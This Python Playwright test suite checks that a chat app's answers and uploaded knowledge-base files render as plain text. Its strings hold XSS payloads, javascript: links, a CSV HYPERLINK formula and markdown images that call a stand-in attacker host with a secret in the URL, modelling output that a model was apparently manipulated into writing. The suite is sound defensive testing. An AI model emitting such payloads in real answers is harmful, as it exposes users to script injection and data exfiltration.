"""What a model was talked into writing, and what stands in a hostile file: shown as words, and nothing leaves."""

from collections.abc import Callable, Iterator
from time import monotonic, sleep

import httpx2
import pytest
from page_hub import EMAIL, PASSWORD, Hub, Watched, check_accessibility, photograph, sign_in
from playwright.sync_api import Dialog, Page, expect
from tests.doubles.openai_chat import OpenAIDouble

Open = Callable[..., Page]
HANNAH = "hannah.cole@hollinvane.example"
QUESTION = "How many days of annual leave do I get?"
AWAY = "https://attacker.invalid/p.png?q=secret"

IMAGES = f"""Begin of images.

![a]({AWAY}) ![b](//attacker.invalid/p.png) ![c](/\\attacker.invalid/p.png) ![d](<{AWAY}> "title")
![e][e] ![f][] ![f] [![g]({AWAY})]({AWAY})

[e]: {AWAY}
[f]: //attacker.invalid/p.png "title"

| ![h]({AWAY}) | b |
|---|---|
| ![i][i] | ![j](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Indpbmdvd24oKSI+) |

[i]: {AWAY}

- ![k](/api/documents/1/original)
- > ![l]({AWAY}) and a footnote[^n]

[^n]: ![m]({AWAY})

End of images."""

LINKS = f"""Begin of links.

[a](javascript:window.pwned=1) [b](JaVaScRiPt:window.pwned=1) [c](javascript&colon;window.pwned=1)
[d](&#106;avascript:window.pwned=1) [e](data:text/html,<script>window.pwned=1</script>) [f](vbscript:x) [g]({AWAY})
[h][h] [i][] [i] <javascript:window.pwned=1> <{AWAY}> {AWAY} www.attacker.invalid me@attacker.invalid
[j](//attacker.invalid) [k](\\\\attacker.invalid) [l](/\\attacker.invalid) [m](/api/auth/logout) [n](/%61pi/me)
[o](http://me:pw@attacker.invalid/) [p](mailto:me@attacker.invalid?body=secret) [q](file:///etc/passwd)

[h]: javascript:window.pwned=1
[i]: {AWAY}
[1]: {AWAY}
[2]: javascript:window.pwned=1

End of links."""

ELEMENTS = f"""Begin of elements.

<img src=x onerror="window.pwned=1"> and <svg onload=window.pwned=1> and <b onclick="window.pwned=1">b</b> inline.
<a href="javascript:window.pwned=1">c</a> <a id="composer" name="location" style="position:fixed;inset:0">d</a>

<iframe src="{AWAY}" srcdoc="<script>parent.pwned=1</script>"></iframe>

<script>window.pwned=1</script>

<style>@import "{AWAY}"; * {{ background: url("{AWAY}") }}</style>

<base href="{AWAY}"><meta http-equiv="refresh" content="0;url={AWAY}"><link rel="stylesheet" href="{AWAY}">

<form action="{AWAY}"><input name="password"><button>Sign in</button></form>

<object data="{AWAY}"></object><embed src="{AWAY}"><video src="{AWAY}" autoplay></video><audio src="{AWAY}"></audio>

<details open ontoggle="window.pwned=1"><summary>x</summary></details><math><mi xlink:href="javascript:window.pwned=1">

```mermaid
graph TD; A-->B; click A "{AWAY}"
```

```html
<img src=x onerror="window.pwned=1">
```

$\\href{{javascript:window.pwned=1}}{{x}}$ &lt;img src=x onerror=window.pwned=1&gt;

End of elements."""

# Everything that is ever there is looked at, also what only one piece of the stream has shown.
_OBSERVE = """
    window.seen = [];
    const forbidden = "img, picture, source, video, audio, iframe, frame, object, embed, base, form, math, details, " +
        "input, style, link, meta, script, [style], [id], [name]";
    const look = () => {
        for (const answer of document.querySelectorAll(".answer")) {
            for (const one of answer.querySelectorAll(forbidden)) window.seen.push(one.outerHTML.slice(0, 120));
            for (const one of answer.querySelectorAll("a")) window.seen.push(one.outerHTML.slice(0, 120));
            for (const one of answer.querySelectorAll("*"))
                for (const name of one.getAttributeNames())
                    if (/^on|^src/.test(name)) window.seen.push(one.outerHTML.slice(0, 120));
        }
    };
    new MutationObserver(look).observe(document, {childList: true, subtree: true, attributes: true});
"""


def watch(page: Page, watched: Watched) -> None:
    """Counts as a fault what an answer may not hold, a dialog, another window and another page."""

    def on_dialog(dialog: Dialog) -> None:
        watched.faults.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("popup", lambda other: watched.faults.append(f"a window: {other.url}"))
    page.on("download", lambda file: watched.faults.append(f"a download: {file.url}"))


@pytest.mark.parametrize(("name", "text"), [("images", IMAGES), ("links", LINKS), ("elements", ELEMENTS)])
@pytest.mark.parametrize("script", ["normal?cut=char&rate=1500", "normal"])
def test_an_answer_is_only_words(
    told_hub: Hub, model: OpenAIDouble, open_page: Open, watched: Watched, name: str, text: str, script: str
) -> None:
    model.dictate(script, text)
    page = open_page(told_hub)
    watch(page, watched)
    sign_in(page, HANNAH, told_hub.password)
    page.evaluate(_OBSERVE)
    page.get_by_label("Your question").fill(QUESTION)
    page.get_by_label("Your question").press("Enter")
    answer = page.get_by_role("article", name="Answer")
    expect(answer).to_contain_text(f"Begin of {name}.")
    expect(answer).to_contain_text(f"End of {name}.", timeout=20_000)
    expect(answer.get_by_role("status")).to_have_count(0)
    assert page.evaluate("[...new Set(window.seen)]") == []
    check_accessibility(page)
    photograph(page, f"hostile-{name}")

    # Whoever clicks on all of it goes nowhere.
    here = page.url
    for one in answer.locator(".answer").locator("span, td, b, li").all():
        if one.is_visible():
            one.click(force=True, no_wait_after=True)
    assert page.url == here
    assert page.evaluate("window.pwned") is None

    # The same from the server's rows, as after a reload.
    page.add_init_script(_OBSERVE)
    page.reload()
    expect(answer).to_contain_text(f"End of {name}.")
    assert page.evaluate("[...new Set(window.seen)]") == []
    assert page.evaluate("window.pwned") is None


HOSTILE_FILES = {
    "quotes.md": f"# The turbine\n\n![a]({AWAY}) The turbine <img src=x onerror=window.pwned=1> turns at 4711 rounds. "
    f"[click](javascript:window.pwned=1) <iframe src='{AWAY}'></iframe> <script>window.pwned=1</script>\n",
    "page.html": f"<html><head><base href='{AWAY}'><style>@import '{AWAY}'</style></head><body onload='window.pwned=1'>"
    f"<h1>The compressor</h1><p>The compressor <img src='{AWAY}' onerror='window.pwned=1'> runs at 4712 rounds."
    f"<a href='javascript:window.pwned=1'>click</a> <b>&lt;script&gt;window.pwned=1&lt;/script&gt;</b>"
    "</p></body></html>",
    "table.csv": f'Part,Rounds\n<img src=x onerror=window.pwned=1>,4713\n"=HYPERLINK(""{AWAY}"")",4713\n',
    "<img src=x onerror=window.pwned=1>.txt": "The blower of the hostile name turns at 4714 rounds.\n",
    "![a](https:--attacker.invalid).md": "The fan of the other hostile name turns at 4715 rounds.\n",
}


@pytest.fixture(scope="module")
def hostile(hub: Hub) -> Iterator[dict[str, str]]:
    """Ids by file names, once all can be searched."""
    with httpx2.Client(base_url=hub.url, timeout=60) as api:
        signed_in = api.post("/api/auth/login", json={"email": EMAIL, "password": PASSWORD}).raise_for_status()
        api.headers["Authorization"] = f"Bearer {signed_in.json()['access_token']}"
        name = "<script>window.pwned=1</script> & <b>base</b>"
        shelf = api.post("/api/knowledge-bases", json={"name": name}).raise_for_status().json()["id"]
        ids = {
            path: api.post(f"/api/knowledge-bases/{shelf}/documents", params={"path": path}, content=content.encode())
            .raise_for_status()
            .json()["id"]
            for path, content in HOSTILE_FILES.items()
        }
        until = monotonic() + 60
        for document in ids.values():
            while api.get(f"/api/documents/{document}").json()["state"] != "ready":
                assert monotonic() < until
                sleep(0.1)
        yield ids | {"": shelf}


def test_a_quotation_of_a_hostile_file_is_only_words(
    hub: Hub, open_page: Open, watched: Watched, hostile: dict[str, str]
) -> None:
    page = open_page(hub)
    watch(page, watched)
    sign_in(page)
    page.add_init_script(_OBSERVE)
    page.goto("/chat/")
    for question in ("At how many rounds does the turbine turn?", "At how many rounds does the blower turn?"):
        page.get_by_label("Your question").fill(question)
        page.get_by_label("Your question").press("Enter")
        answer = page.get_by_role("article", name="Answer").last
        expect(answer).to_contain_text("471")
        answer.get_by_role("button", name="Source 1").first.click()
        panel = page.get_by_role("complementary").filter(has=page.get_by_role("button", name="Close"))
        expect(panel.locator("mark").filter(has_text="471").first).to_be_visible()
        assert page.evaluate("[...new Set(window.seen)]") == []
        assert page.evaluate("window.pwned") is None
        check_accessibility(page)
        page.keyboard.press("Escape")
        page.get_by_role("link", name="New chat").click()
        expect(page.get_by_role("article", name="Answer")).to_have_count(0)


@pytest.mark.parametrize("path", list(HOSTILE_FILES))
def test_a_hostile_file_is_shown_as_words(
    hub: Hub, open_page: Open, watched: Watched, hostile: dict[str, str], path: str
) -> None:
    page = open_page(hub)
    watch(page, watched)
    sign_in(page)
    page.goto(f"/knowledge/document/?id={hostile[path]}&start=0&end=40")
    expect(page.get_by_text("471", exact=False).first).to_be_visible()
    shown = page.evaluate(
        """() => [...document.querySelectorAll("main img, main iframe, main object, main embed, main base, main style")]
            .map(one => one.outerHTML)"""
    )
    assert shown == []
    links = page.evaluate("[...document.querySelectorAll('main a')].map(one => one.href)")
    assert [link for link in links if not link.startswith((hub.url, "blob:"))] == []
    assert page.evaluate("window.pwned") is None
    check_accessibility(page)


def test_hostile_names_are_words_in_lists_and_dialogs(
    hub: Hub, open_page: Open, watched: Watched, hostile: dict[str, str]
) -> None:
    page = open_page(hub)
    watch(page, watched)
    sign_in(page)
    page.goto("/knowledge/")
    expect(page.get_by_text("<script>window.pwned=1</script> & <b>base</b>").first).to_be_visible()
    page.goto(f"/knowledge/base/?id={hostile['']}")
    expect(page.get_by_role("link", name="<img src=x onerror=window.pwned=1>.txt")).to_be_visible()
    page.keyboard.press("Control+k")
    page.get_by_role("combobox", name="Search").fill("onerror")
    expect(page.get_by_role("dialog").get_by_role("option").first).to_be_visible()
    assert page.evaluate("window.pwned") is None
    check_accessibility(page)
